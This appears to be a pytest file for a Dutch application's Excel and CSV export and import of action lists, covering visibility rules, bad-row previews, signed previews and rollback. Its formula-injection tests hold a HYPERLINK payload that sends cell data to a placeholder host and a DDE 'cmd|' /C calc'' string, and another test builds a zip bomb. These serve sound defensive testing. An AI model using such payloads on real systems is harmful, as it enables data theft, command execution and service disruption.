"""Action lists in Excel: the export of a body's actions (.xlsx, CSV) and the import of an existing list
(upload, preview with bad rows by row number, import of all or only the good rows, in one transaction)."""

from __future__ import annotations

import html
import io
import re
import zipfile
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from audit.models import AuditRecord
from cases.models import Case, CaseType
from cases.services import excel
from cases.services.cases import create_follow_up, follow_up_overview
from cases.services.excel import importer
from core.dates import today
from core.db import Audience
from core.errors import DomainError
from core.extensions import db
from core.spreadsheet import safe_text
from demo.pdf import text_pdf
from meetings.models import Decision
from tests.conftest import find_body, in_app, switch_off, user, workbook
from tests.meetings.test_exports import MEMO, csv_rows, make_rijk_internal, xlsx_rows

SEC = "secretariaat@ezk.test"
RIJK = "beleid@ezk.test"
REGIO = "economie@noord-brabant.test"
NON_MEMBER = "economie@gelderland.test"
ACTIONS = "/overleggen/bo-brainport/acties"
IMPORT = ACTIONS + "/importeren"
SAVE = IMPORT + "/opslaan"
HEADER = ["Soort", "Titel", "Eigenaar", "Uitvoerder", "Datum gereed", "Herkomst", "Toelichting"]


def upload(web: Any, content: bytes, filename: str = "actielijst.xlsx", audience: str = "overleg") -> Any:
    return web.post_form(
        IMPORT,
        {"audience": audience, "file": (io.BytesIO(content), filename)},
        content_type="multipart/form-data",
    )


def payload_of(page: str) -> str:
    match = re.search(r'name="payload" type="hidden" value="([^"]+)"', page)
    assert match, "no sealed preview on the page"
    return html.unescape(match.group(1))


def field_error(page: str, name: str) -> str:
    match = re.search(rf'<p class="error" id="{name}-fout">(.*?)</p>', page, re.S)
    assert match, f"no error next to the field {name}"
    return html.unescape(match.group(1))


def stored(app: Any) -> tuple[int, int]:
    """Cases and their audit records: what an import that stores nothing must leave as it was."""
    with in_app(app):
        return (
            db.session.scalar(select(func.count(Case.id))) or 0,
            db.session.scalar(select(func.count(AuditRecord.id)).where(AuditRecord.object_type == "cases")) or 0,
        )


def titles_in_body(app: Any) -> set[str]:
    with in_app(app):
        bo = find_body()
        return set(db.session.scalars(select(Case.title).where(Case.body_id == bo.id)))


GOOD = [
    HEADER,
    [
        "actiepunt",
        "Kaart van de netcapaciteit per bedrijventerrein",
        "Prov. Noord-Brabant",
        "economie@noord-brabant.test",
        datetime(2030, 3, 1),
        "BO-Brainport",
        "Met de netbeheerder.",
    ],
    [
        "",
        "Talentmonitor mbo actualiseren",
        "Ministerie van Onderwijs, Cultuur en Wetenschap",
        "Ahmed El Amrani",
        "23 november 2030",
        "",
        "",
    ],
    ["toezegging", "De Kamer informeren over de mainportstatus", "EZK", "", "", "Commissiedebat 16 februari 2023", ""],
]

BAD = [
    HEADER,
    ["actiepunt", "Goede rij één", "EZK", "beleid@ezk.test", "01-03-2030", "", ""],  # 2
    ["actiepunt", "", "EZK", "", "01-03-2030", "", ""],  # 3: no title
    ["actiepunt", "Rij met een onmogelijke datum", "EZK", "", "31-02-2030", "", ""],  # 4
    ["actiepunt", "Rij met een onbekende organisatie", "Ministerie van Toverkunst", "", "01-03-2030", "", ""],  # 5
    ["actiepunt", "Rij met een onbekende uitvoerder", "EZK", "niemand@nergens.test", "01-03-2030", "", ""],  # 6
    ["actiepunt", "Rij met een uitvoerder van elders", "EZK", "economie@eindhoven.test", "01-03-2030", "", ""],  # 7
    ["actiepunt", "T" * 250, "EZK", "", "01-03-2030", "", ""],  # 8: title too long
    ["actiepunt", "Rij met een te lange toelichting", "EZK", "", "01-03-2030", "", "x" * 20_001],  # 9
    ["toezegging", "Goede rij twee", "Gem. Eindhoven", "economie@eindhoven.test", "", "", ""],  # 10
]
BAD_ROWS = {
    3: "De titel is leeg",
    4: "niet begrepen",
    5: "Organisatie ‘Ministerie van Toverkunst’ onbekend",
    6: "Uitvoerder ‘niemand@nergens.test’ onbekend",
    7: "werkt niet bij Ministerie van Economische Zaken en Klimaat",
    8: "De titel is te lang",
    9: "De toelichting is te lang",
}


# --- export ------------------------------------------------------------------------------------------


def test_the_actions_export_holds_what_the_actions_page_shows_the_reader(app, clients):
    regio = clients(REGIO)
    page = html.unescape(regio.get(ACTIONS).get_data(as_text=True))
    response = regio.get(ACTIONS + ".xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment; filename=acties-bo-brainport-")
    header, *rows = xlsx_rows(response.data)
    assert header[:4] == ("Kenmerk", "Soort", "Titel", "Eigenaar")
    with in_app(app):
        bo = find_body()
        expected = [c.title for r in follow_up_overview(user(REGIO), bo) for c in r.cases]
    assert [row[2] for row in rows] == expected and expected
    for reference, _kind, title, *_rest in rows:
        assert reference in page and title in page
    assert all(isinstance(row[5], datetime) for row in rows if row[5] is not None)  # real dates, not text

    as_csv = csv_rows(regio.get(ACTIONS + ".csv").data)
    assert [row[2] for row in as_csv[1:]] == expected
    assert as_csv[1][5] == rows[0][5].strftime("%d-%m-%Y")


def test_the_closed_ones_come_along_when_the_page_shows_them(clients):
    sec = clients(SEC)
    open_only = xlsx_rows(sec.get(ACTIONS + ".xlsx").data)
    with_closed = xlsx_rows(sec.get(ACTIONS + ".xlsx?ook=afgerond").data)
    assert len(with_closed) > len(open_only)
    assert {row[6] for row in with_closed[1:]} - {row[6] for row in open_only[1:]}  # e.g. afgerond


def test_a_regio_reader_finds_no_rijk_internal_action_or_decision_in_the_export(app, clients, clock):
    world = make_rijk_internal(app, clock)
    for fmt in ("xlsx", "csv"):
        rijk = clients(RIJK).get(f"{ACTIONS}.{fmt}").data
        regio = clients(REGIO).get(f"{ACTIONS}.{fmt}").data
        rijk_rows = xlsx_rows(rijk) if fmt == "xlsx" else csv_rows(rijk)
        regio_rows = xlsx_rows(regio) if fmt == "xlsx" else csv_rows(regio)
        assert world.rijk_action in str(rijk_rows)
        assert "Annotatie voor de bewindspersonen opstellen" in str(rijk_rows)  # the demo's Rijk-only action
        assert MEMO not in str(regio_rows)
        assert "Annotatie voor de bewindspersonen" not in str(regio_rows)
        # The openbaar action follows a Rijk-only decision: the Rijk sees which, the regio not that there is one.
        rijk_row = next(row for row in rijk_rows if row[2] == world.open_action)
        regio_row = next(row for row in regio_rows if row[2] == world.open_action)
        assert rijk_row[9]
        assert not regio_row[9]


@pytest.mark.parametrize("path", [ACTIONS + ".xlsx", ACTIONS + ".csv", "/besluiten.xlsx"])
def test_the_exports_take_as_many_queries_for_40_more_actions(app, clients, count_queries, path):
    web = clients(REGIO)
    web.get(path)  # warm: the session, the user
    with count_queries() as before:
        assert web.get(path).status_code == 200
    with in_app(app):
        bo = find_body()
        decided = list(db.session.scalars(select(Decision).where(Decision.body_id == bo.id)))
        for n in range(40):
            create_follow_up(
                user(SEC),
                bo,
                case_type=CaseType.ACTIEPUNT,
                title=f"Extra exportactie {n}",
                owner_organisation_id=user(REGIO).organisation_id,
                due_date=today() + timedelta(days=n),
                decision=decided[n % len(decided)],
            )
    with count_queries() as after:
        response = web.get(path)
    assert response.status_code == 200
    content = response.data.decode("utf-8-sig") if path.endswith(".csv") else str(xlsx_rows(response.data))
    if "acties" in path:
        assert "Extra exportactie 39" in content
    assert after.count == before.count, after.statements[before.count :]


def test_a_non_member_gets_404_for_the_export(clients):
    outsider = clients(NON_MEMBER)
    assert outsider.get(ACTIONS + ".xlsx").status_code == 404
    assert outsider.get(ACTIONS + ".csv").status_code == 404


def test_text_that_looks_like_a_formula_stays_text(app, clients):
    dangerous = {
        "title": '=HYPERLINK("https://example.test/?d="&A1,"Klik")',
        "source": "@SUM(1+1)*cmd|' /C calc'!A0",
        "description": "+31 6 12345678\n-1+1",
    }
    with in_app(app):
        bo = find_body()
        create_follow_up(
            user(SEC),
            bo,
            case_type=CaseType.ACTIEPUNT,
            owner_organisation_id=user(REGIO).organisation_id,
            due_date=today() + timedelta(days=3),
            **dangerous,
        )
    sec = clients(SEC)
    book = load_workbook(io.BytesIO(sec.get(ACTIONS + ".xlsx").data))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert all("'" + text in values for text in dangerous.values())
    fields = [f for row in csv_rows(sec.get(ACTIONS + ".csv").data) for f in row]
    assert all("'" + text in fields for text in dangerous.values())
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+31", "'+31"),
        ("-2", "'-2"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("Netcapaciteit", "Netcapaciteit"),
        ("a=1", "a=1"),
    ],
)
def test_safe_text_guards_exactly_the_formula_starts(text, safe):
    assert safe_text(text) == safe


# --- import: the happy path ----------------------------------------------------------------------------


def test_an_all_good_list_is_previewed_then_imported_audited_and_listed(app, clients):
    sec = clients(SEC)
    before = stored(app)
    preview = upload(sec, workbook(GOOD))
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert "3 rijen" in page and "3 goed" in page and "Er is nog niets opgeslagen" in page
    assert stored(app) == before  # a preview stores nothing

    saved = sec.post_form(SAVE, {"payload": payload_of(page), "mode": "alles"})
    assert saved.status_code == 302 and saved.headers["Location"].endswith(ACTIONS)
    with in_app(app):
        new = {c.title: c for c in db.session.scalars(select(Case).where(Case.title.in_([row[1] for row in GOOD[1:]])))}
        assert len(new) == 3
        kaart = new["Kaart van de netcapaciteit per bedrijventerrein"]
        assert kaart.type is CaseType.ACTIEPUNT and kaart.due_date == date(2030, 3, 1)
        assert kaart.assignee_id == user(REGIO).id and kaart.owner_organisation_id == user(REGIO).organisation_id
        assert kaart.source == "BO-Brainport" and kaart.description == "Met de netbeheerder."
        assert kaart.audience is Audience.OVERLEG
        assert new["Talentmonitor mbo actualiseren"].due_date == date(2030, 11, 23)
        tz = new["De Kamer informeren over de mainportstatus"]
        assert tz.type is CaseType.TOEZEGGING and tz.due_date is None
        for case in new.values():
            record = db.session.scalars(
                select(AuditRecord).where(
                    AuditRecord.object_type == "cases", AuditRecord.object_id == case.id, AuditRecord.action == "create"
                )
            ).one()
            assert record.actor_user_id == user(SEC).id
    listed = html.unescape(sec.get(ACTIONS).get_data(as_text=True))
    assert all(row[1] in listed for row in GOOD[1:])
    assert "3 acties en toezeggingen geïmporteerd uit actielijst.xlsx" in listed


def test_the_header_may_sit_below_a_title_and_use_other_names(app, clients):
    rows = [
        ["Actielijst BO-Brainport, stand november"],
        [],
        ["Nr.", "Actiepunt", "Organisatie", "Trekker", "Deadline (dd-mm-jjjj)", "Status"],
        [
            1,
            "Werkbezoek Brainport Industries Campus plannen",
            "Brainport Development",
            "Pieter Smits",
            "15-01-2030",
            "open",
        ],
    ]
    page = upload(clients(SEC), workbook(rows)).get_data(as_text=True)
    assert "1 goed" in page
    assert "Niet gelezen kolommen" in page and "Status" in page


def test_what_the_export_writes_the_import_reads_back(clients):
    sec = clients(SEC)
    exported = sec.get(ACTIONS + ".xlsx").data
    page = upload(sec, exported, filename="acties-bo-brainport.xlsx").get_data(as_text=True)
    rows = len(xlsx_rows(exported)) - 1
    assert f"{rows} rijen" in page and f"{rows} goed" in page, re.findall(r"Rij \d+</a>: [^<]*", page)


def test_the_empty_list_offered_for_download_round_trips(app, clients):
    sec = clients(SEC)
    page = sec.get(IMPORT).get_data(as_text=True)
    assert f'href="{IMPORT}/voorbeeld.xlsx"' in page
    response = sec.get(IMPORT + "/voorbeeld.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert list(book.worksheets[0].iter_rows(values_only=True)) == [tuple(HEADER)]
    with in_app(app):
        assert set(excel.read_sheet("x.xlsx", workbook([HEADER, GOOD[1]])).columns) == set(excel.HEADERS)
    book.worksheets[0].append(GOOD[2])
    filled = io.BytesIO()
    book.save(filled)
    preview = upload(sec, filled.getvalue()).get_data(as_text=True)
    assert "1 goed" in preview
    assert sec.post_form(SAVE, {"payload": payload_of(preview), "mode": "alles"}).status_code == 302
    assert GOOD[2][1] in titles_in_body(app)
    # Unfilled, it is refused as a list without rows, next to the file field.
    empty = upload(sec, response.data)
    assert empty.status_code == 400
    assert "geen rijen" in field_error(empty.get_data(as_text=True), "file")


# --- import: bad rows ------------------------------------------------------------------------------------


def test_bad_rows_are_listed_by_row_number_and_nothing_is_stored(app, clients):
    sec = clients(SEC)
    before = stored(app)
    page = html.unescape(upload(sec, workbook(BAD)).get_data(as_text=True))
    assert "10 rijen" not in page  # nine rows under the header
    assert "9 rijen" in page and "2 goed" in page and "7 met fouten" in page
    summary = dict(re.findall(r'<li><a href="#rij-(\d+)">Rij \d+</a>: (.*?)</li>', page))
    assert {int(n) for n in summary} == set(BAD_ROWS)
    for number, reason in BAD_ROWS.items():
        assert reason in summary[str(number)], (number, summary[str(number)])
    assert 'alles" disabled' in page  # the button is off; the server refuses it as well (below)
    assert stored(app) == before


def test_import_all_is_refused_when_a_row_is_bad(app, clients):
    sec = clients(SEC)
    payload = payload_of(upload(sec, workbook(BAD)).get_data(as_text=True))
    before = stored(app)
    refused = sec.post_form(SAVE, {"payload": payload, "mode": "alles"})
    assert refused.status_code == 400
    page = html.unescape(refused.get_data(as_text=True))
    assert "Niet alle rijen zijn goed" in page
    assert 'href="#rij-3"' in page  # the rows are shown again, with their faults
    assert stored(app) == before


def test_import_only_the_good_rows_stores_exactly_those(app, clients):
    sec = clients(SEC)
    payload = payload_of(upload(sec, workbook(BAD)).get_data(as_text=True))
    cases_before, _ = stored(app)
    titles_before = titles_in_body(app)
    assert sec.post_form(SAVE, {"payload": payload, "mode": "goede"}).status_code == 302
    assert titles_in_body(app) - titles_before == {"Goede rij één", "Goede rij twee"}
    assert stored(app)[0] == cases_before + 2


def test_no_good_row_at_all_stores_nothing(app, clients):
    sec = clients(SEC)
    page = upload(sec, workbook([HEADER, BAD[2], BAD[3]])).get_data(as_text=True)
    assert "Geen enkele rij is goed" in page
    before = stored(app)
    assert sec.post_form(SAVE, {"payload": payload_of(page), "mode": "goede"}).status_code == 400
    assert stored(app) == before


def test_a_row_that_went_bad_since_the_preview_stops_the_import(app, clients):
    sec = clients(SEC)
    page = upload(sec, workbook(GOOD)).get_data(as_text=True)
    with in_app(app):  # someone leaves the province between the preview and the import
        switch_off(REGIO)
    before = stored(app)
    response = sec.post_form(SAVE, {"payload": payload_of(page), "mode": "alles"})
    assert response.status_code == 409
    assert "Sinds de voorvertoning is er iets veranderd" in html.unescape(response.get_data(as_text=True))
    assert stored(app) == before


# --- import: the sealed preview ----------------------------------------------------------------------


def test_a_tampered_preview_is_refused_and_nothing_is_stored(app, clients):
    sec = clients(SEC)
    payload = payload_of(upload(sec, workbook(GOOD)).get_data(as_text=True))
    before = stored(app)
    head, _dot, rest = payload.partition(".")
    tampered = head[:-2] + ("AA" if head[-2:] != "AA" else "BB") + "." + rest
    response = sec.post_form(SAVE, {"payload": tampered, "mode": "alles"})
    assert response.status_code == 400
    assert "De voorvertoning is ongeldig of gewijzigd" in html.unescape(response.get_data(as_text=True))
    assert stored(app) == before


def test_an_expired_preview_is_refused_and_nothing_is_stored(app, clients, monkeypatch):
    sec = clients(SEC)
    payload = payload_of(upload(sec, workbook(GOOD)).get_data(as_text=True))
    before = stored(app)
    import itsdangerous.timed

    later = itsdangerous.timed.time.time() + excel.PREVIEW_MAX_AGE + 60
    monkeypatch.setattr(itsdangerous.timed.time, "time", lambda: later)
    response = sec.post_form(SAVE, {"payload": payload, "mode": "alles"})
    monkeypatch.undo()
    assert response.status_code == 400
    assert "De voorvertoning is verlopen" in html.unescape(response.get_data(as_text=True))
    assert stored(app) == before


def test_a_preview_for_one_body_imports_into_no_other(app, clients):
    sec = clients(SEC)  # secretariat of both BO-Brainport and the ROM overleg
    payload = payload_of(upload(sec, workbook(GOOD)).get_data(as_text=True))
    before = stored(app)
    response = sec.post_form("/overleggen/rom-overleg/acties/importeren/opslaan", {"payload": payload, "mode": "alles"})
    assert response.status_code == 400
    assert "hoort bij een ander overleg" in html.unescape(response.get_data(as_text=True))
    assert stored(app) == before


# --- import: files that are no action list -------------------------------------------------------------


def zip_bomb() -> bytes:
    """A real workbook with one member that unpacks to more than the limit (a few hundred kB packed)."""
    out = io.BytesIO(workbook(GOOD))
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/opvulling.bin", b"\0" * (excel.MAX_UNPACKED_BYTES + 1))
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("pdf", lambda: ("acties.xlsx", text_pdf("Geen werkmap", ["tekst"])), "Dit is geen Excel-bestand (.xlsx)"),
        ("text", lambda: ("acties.xlsx", b"Titel;Eigenaar\nIets;EZK\n"), "Dit is geen Excel-bestand (.xlsx)"),
        ("csv", lambda: ("acties.csv", b"Titel;Eigenaar\nIets;EZK\n"), "Dit is geen Excel-bestand (.xlsx)"),
        ("old excel", lambda: ("acties.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 600), "Oude Excel-bestanden (.xls)"),
        ("empty file", lambda: ("acties.xlsx", b""), "Dit bestand is leeg"),
        ("empty workbook", lambda: ("acties.xlsx", workbook([])), "Het eerste werkblad van dit bestand is leeg"),
        ("no header", lambda: ("acties.xlsx", workbook([["a", "b"], [1, 2]])), "Geen kopregel gevonden"),
        ("no owner column", lambda: ("acties.xlsx", workbook([["Titel", "Datum"], ["x", "1-1-2030"]])), "Eigenaar"),
        ("header only", lambda: ("acties.xlsx", workbook([HEADER])), "Onder de kopregel staan geen rijen"),
        ("zip bomb", zip_bomb, "uitgepakt te groot"),
        (
            "too many rows",
            lambda: ("acties.xlsx", workbook([HEADER] + [GOOD[3]] * (excel.MAX_ROWS + 1))),
            "meer dan 1.000 rijen",
        ),
    ],
)
def test_a_file_that_is_no_action_list_gets_a_dutch_message_next_to_the_field(app, clients, name, content, message):
    made = content()
    filename, data = made if isinstance(made, tuple) else ("acties.xlsx", made)
    sec = clients(SEC)
    before = stored(app)
    response = upload(sec, data, filename=filename)
    assert response.status_code == 400, name
    assert message in field_error(response.get_data(as_text=True), "file"), name
    assert stored(app) == before


def test_a_file_over_the_limit_is_refused_before_it_is_read(app, clients):
    with in_app(app), pytest.raises(DomainError, match="hoogstens 5 MB") as refused:
        excel.read_sheet("acties.xlsx", b"PK" + b"\0" * excel.MAX_IMPORT_BYTES)
    assert refused.value.field == "file"
    # Far over it, the web server's own limit answers first, in Dutch too.
    response = upload(clients(SEC), b"PK" + b"\0" * (excel.MAX_IMPORT_BYTES + 1))
    assert response.status_code == 413
    assert "Bestand te groot" in response.get_data(as_text=True)


def test_no_file_at_all_is_asked_for(app, clients):
    response = clients(SEC).post_form(IMPORT, {"audience": "overleg"}, content_type="multipart/form-data")
    assert response.status_code == 400
    assert "Kies een bestand" in field_error(response.get_data(as_text=True), "file")


def test_the_rijk_secretariat_cannot_import_for_the_regio_side_only(app, clients):
    response = upload(clients(SEC), workbook(GOOD), audience="regio")
    assert response.status_code == 400
    assert 'value="regio"' not in response.get_data(as_text=True)  # not even offered


# --- import: who, and all or nothing -------------------------------------------------------------------


@pytest.mark.parametrize(("email", "status"), [(RIJK, 403), (REGIO, 403), (NON_MEMBER, 404)])
def test_only_the_secretariat_may_import(app, clients, email, status):
    sec_payload = payload_of(upload(clients(SEC), workbook(GOOD)).get_data(as_text=True))
    other = clients(email)
    before = stored(app)
    assert other.get(IMPORT).status_code == status
    assert other.get(IMPORT + "/voorbeeld.xlsx").status_code == status
    assert upload(other, workbook(GOOD)).status_code == status
    assert other.post_form(SAVE, {"payload": sec_payload, "mode": "alles"}).status_code == status
    assert stored(app) == before
    page = other.get(ACTIONS).get_data(as_text=True) if status == 403 else ""
    assert "Actielijst importeren" not in page


def test_a_failure_on_the_third_row_leaves_nothing_stored(app, clients, monkeypatch):
    sec = clients(SEC)
    page = upload(sec, workbook(GOOD)).get_data(as_text=True)
    calls = []

    def third_fails(*args: Any, **kwargs: Any) -> Any:
        calls.append(kwargs["title"])
        if len(calls) == 3:
            raise DomainError("De derde rij gaat mis.")
        return create_follow_up(*args, **kwargs)

    monkeypatch.setattr(importer, "create_follow_up", third_fails)
    before = stored(app)
    titles_before = titles_in_body(app)
    response = sec.post_form(SAVE, {"payload": payload_of(page), "mode": "alles"})
    assert len(calls) == 3  # two rows were created before the failure, and rolled back with it
    assert response.status_code == 400
    assert "De derde rij gaat mis." in response.get_data(as_text=True)
    assert stored(app) == before
    assert titles_in_body(app) == titles_before


def test_an_unexpected_error_mid_import_rolls_back_every_row(app, monkeypatch):
    calls = []

    def third_crashes(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        if len(calls) == 3:
            raise RuntimeError("database weg")
        return create_follow_up(*args, **kwargs)

    monkeypatch.setattr(importer, "create_follow_up", third_crashes)
    before = stored(app)
    with in_app(app), app.test_request_context():
        sec = user(SEC)
        bo = find_body()
        sheet = excel.read_sheet("acties.xlsx", workbook(GOOD))
        preview = excel.preview_import(sec, bo, sheet, audience=Audience.OVERLEG)
        with pytest.raises(RuntimeError):
            excel.import_follow_ups(sec, bo, preview.sealed, only_valid=False)
    assert len(calls) == 3
    assert stored(app) == before


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("23-11-2026", date(2026, 11, 23)),
        ("23/11/26", date(2026, 11, 23)),
        ("1.2.2027", date(2027, 2, 1)),
        ("23 november 2026", date(2026, 11, 23)),
        ("3 mrt. 2027", date(2027, 3, 3)),
        ("2026-11-23", date(2026, 11, 23)),
        ("2026-11-23 00:00:00", date(2026, 11, 23)),
        ("31-02-2026", None),
        ("volgende week", None),
        ("11/23/2026", None),
    ],
)
def test_dates_as_people_type_them_in_a_dutch_sheet(text, expected):
    assert excel.parse_date(text) == expected


@pytest.mark.parametrize("text", [' =HYPERLINK("http://x")', "\n+31 6 1234", "\t@SUM(A1)"])
def test_a_formula_behind_leading_blanks_is_written_as_text(text):
    from core.spreadsheet import safe_text

    assert safe_text(text).startswith("'")
